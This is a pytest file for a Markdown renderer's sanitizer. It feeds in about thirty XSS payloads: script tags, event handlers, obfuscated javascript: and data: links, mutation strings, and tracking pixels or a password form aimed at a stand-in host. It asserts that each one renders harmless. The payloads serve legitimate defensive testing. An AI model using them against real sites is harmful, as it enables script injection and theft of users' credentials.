"""Markdown from strangers: whatever it says, nothing in it runs, calls home or poses as ours."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest

from registry.markdown import SCHEMES, TAGS, render

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "handler": '<img src=x onerror="alert(1)">',
    "svg": '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    "javascript link": "[a](javascript:alert(1))",
    "javascript in capitals": "[a](JaVaScRiPt:alert(1))",
    "javascript by entities": "[a](&#106;avascript&colon;alert(1))",
    "javascript with a tab": "[a](java&Tab;script:alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "data link": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript": "[a](vbscript:msgbox(1))",
    "reference": "[a][b]\n\n[b]: javascript:alert(1)",
    "title that breaks out": '[a](http://e.example "\\" onmouseover=\\"alert(1)")',
    "address that breaks out": '[a](http://e.example/"onmouseover="alert(1))',
    "image that calls home": "![x](http://spy.example/pixel.png)",
    "image by reference": "![x][y]\n\n[y]: http://spy.example/pixel.png",
    "frame": '<iframe src="javascript:alert(1)"></iframe>',
    "style": "<style>@import 'http://spy.example/a.css';</style>",
    "form": '<form action="http://spy.example"><input name=password></form>',
    "meta": '<meta http-equiv="refresh" content="0;url=http://spy.example">',
    "base": '<base href="http://spy.example/">',
    "comment": "<!--><script>alert(1)</script>-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "broken tag": "<<script>alert(1)//<</script>",
    "mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "code that closes": "```\n</code></pre><script>alert(1)</script>\n```",
    "inline code": "`</code><script>alert(1)</script>`",
    "language that breaks out": '```" onmouseover="alert(1)\nx\n```',
    "table": "| <script>alert(1)</script> | b |\n|---|---|\n| [a](javascript:alert(1)) | x |",
    "heading": "# <img src=x onerror=alert(1)>\n\n<h1 onclick=alert(1)>x</h1>",
    "relative link": "[sign out](/accounts/logout/)",
    "protocol-relative link": "[a](//spy.example/)",
}


class Seen(HTMLParser):
    """Every tag and attribute, as a browser's parser would meet them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_nothing_gets_through(attack):
    seen = Seen(render(attack))

    assert set(seen.tags) <= TAGS
    for tag, name, value in seen.attributes:
        assert (tag, name) in {("a", "href"), ("a", "rel")}
        if name == "href":
            assert value.split(":")[0] in SCHEMES
        else:
            assert value == "nofollow noopener noreferrer"


@pytest.mark.parametrize("attack", ["script", "svg", "frame", "form"])
def test_html_is_shown_as_the_text_it_is(attack):
    assert "&lt;" in render(ATTACKS[attack])


def test_every_link_says_that_we_do_not_vouch_for_it():
    html = render("[a](https://a.example) <https://b.example> [c](mailto:c@example.org)")
    assert html.count('rel="nofollow noopener noreferrer"') == 3


def test_headings_stand_below_the_pages_own():
    html = render("# One\n\n## Two\n\n###### Six\n\nAlso\n===")
    assert Seen(html).tags == ["h3", "h4", "h6", "h3"]
    assert "</h3>" in html


def test_what_authors_write_is_there():
    html = render(
        "**Bold** and *not*, `code`, ~~struck~~.\n\n1. one\n2. two\n\n> said\n\n"
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n"
    )
    wanted = {"strong", "em", "code", "s", "ol", "li", "blockquote", "table", "th", "td"}
    assert wanted <= set(Seen(html).tags)


@pytest.mark.parametrize(
    "part", ["[", "![", "> ", "*a ", "**a *b ", "[a](b", "`a", "&", "<", "|a", "- \n", "_", "(("]
)
def test_text_that_is_meant_to_be_slow_is_not(part):
    text = (part * 10_000)[:10_000]
    began = time.perf_counter()
    render(text)
    assert time.perf_counter() - began < 5  # measured: 0.35 s at most on one slow core
